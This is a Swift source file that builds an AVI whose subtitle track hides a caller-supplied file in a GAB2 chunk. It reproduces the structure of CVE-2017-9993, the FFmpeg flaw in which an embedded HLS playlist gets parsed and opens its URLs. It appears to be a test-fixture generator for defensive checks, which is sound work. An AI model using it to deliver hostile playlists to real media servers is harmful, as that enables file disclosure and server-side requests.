import Foundation

/// Builds an AVI whose subtitle track carries a file in a GAB2 chunk: the shape of CVE-2017-9993, where the AVI
/// demuxer handed the embedded file to whichever demuxer probed best (an HLS playlist, which then opened its URLs).
///
/// The file holds one MJPEG video track (`frames` pictures at 10 frames/s, 160×120) and one `txts` track whose only
/// chunk is `GAB2\0`, version 2, a UTF-16 title, then the payload.
public enum GAB2AVI {
    /// Writes the AVI to `folder/name` and returns its path.
    public static func write(payload: Data, name: String, into folder: URL, frames count: Int = 10) throws -> String {
        let pictures = folder.appendingPathComponent("gab2-frames-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: pictures, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: pictures) }
        try Media.ffmpeg(["-f", "lavfi", "-i", "testsrc2=s=160x120:r=10", "-frames:v", String(count), "-c:v", "mjpeg",
                          pictures.appendingPathComponent("%03d.jpg").path])
        let frames = try Media.files(in: pictures).map { try Data(contentsOf: pictures.appendingPathComponent($0)) }

        let title = Data("English".utf16.flatMap { [UInt8($0 & 0xff), UInt8($0 >> 8)] })
        var gab2 = Data("GAB2".utf8) + [0]
        gab2 += le16(2) + le32(title.count) + title + le16(4) + le32(payload.count) + payload

        let header = le32(100_000) + le32(0) + le32(0) + le32(0x10) + le32(frames.count) + le32(0) + le32(2)
            + le32(1 << 20) + le32(160) + le32(120) + Data(count: 16)
        let videoStream = Data("vidsMJPG".utf8) + le32(0) + le16(0) + le16(0) + le32(0) + le32(1) + le32(10) + le32(0)
            + le32(frames.count) + le32(1 << 20) + le32(0xffff_ffff) + le32(0) + le16(0) + le16(0) + le16(160) + le16(120)
        let videoFormat = le32(40) + le32(160) + le32(120) + le16(1) + le16(24) + Data("MJPG".utf8) + le32(160 * 120 * 3)
            + Data(count: 16)
        let subtitleStream = Data("txts".utf8) + Data(count: 4) + le32(0) + le16(0) + le16(0) + le32(0) + le32(1)
            + le32(10) + le32(0) + le32(1) + le32(gab2.count) + le32(0xffff_ffff) + le32(0) + Data(count: 8)
        let headers = list("hdrl", chunk("avih", header)
            + list("strl", chunk("strh", videoStream) + chunk("strf", videoFormat))
            + list("strl", chunk("strh", subtitleStream) + chunk("strf", Data())))

        let bodies = [("01tx", gab2)] + frames.map { ("00dc", $0) }
        var index = Data()
        var offset = 4
        for (fourCC, body) in bodies {
            index += Data(fourCC.utf8) + le32(0x10) + le32(offset) + le32(body.count)
            offset += chunk(fourCC, body).count
        }
        let items = bodies.map { chunk($0.0, $0.1) }
        let riff = chunk("RIFF", Data("AVI ".utf8) + headers + list("movi", items.reduce(Data(), +)) + chunk("idx1", index))
        let path = folder.appendingPathComponent(name).path
        try riff.write(to: URL(fileURLWithPath: path))
        return path
    }

    private static func chunk(_ fourCC: String, _ body: Data) -> Data {
        Data(fourCC.utf8) + le32(body.count) + body + (body.count % 2 == 1 ? Data([0]) : Data())
    }

    private static func list(_ kind: String, _ body: Data) -> Data { chunk("LIST", Data(kind.utf8) + body) }

    private static func le16(_ value: Int) -> Data { Data([UInt8(value & 0xff), UInt8((value >> 8) & 0xff)]) }

    private static func le32(_ value: Int) -> Data { le16(value & 0xffff) + le16((value >> 16) & 0xffff) }
}
